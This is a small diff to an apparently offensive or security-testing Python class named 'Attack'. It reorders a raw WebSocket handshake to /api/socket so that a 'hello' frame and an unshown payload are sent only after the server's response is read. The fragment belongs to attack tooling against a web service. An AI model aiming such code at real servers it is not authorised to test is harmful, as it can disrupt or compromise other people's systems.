@@ -233,9 +233,9 @@ class Attack:
             writer.write(
                 b"GET /api/socket HTTP/1.1\r\nhost: x\r\nupgrade: websocket\r\nconnection: Upgrade\r\n"
                 b"sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
-                + frame(1, b'{"type":"hello","id":"1"}')
-                + data
             )
+            await reader.readuntil(b"\r\n\r\n")  # what comes with the handshake is not read
+            writer.write(frame(1, b'{"type":"hello","id":"1"}') + data)
             with contextlib.suppress(TimeoutError):
                 async with asyncio.timeout(2):
                     await asyncio.gather(writer.drain(), reader.read())
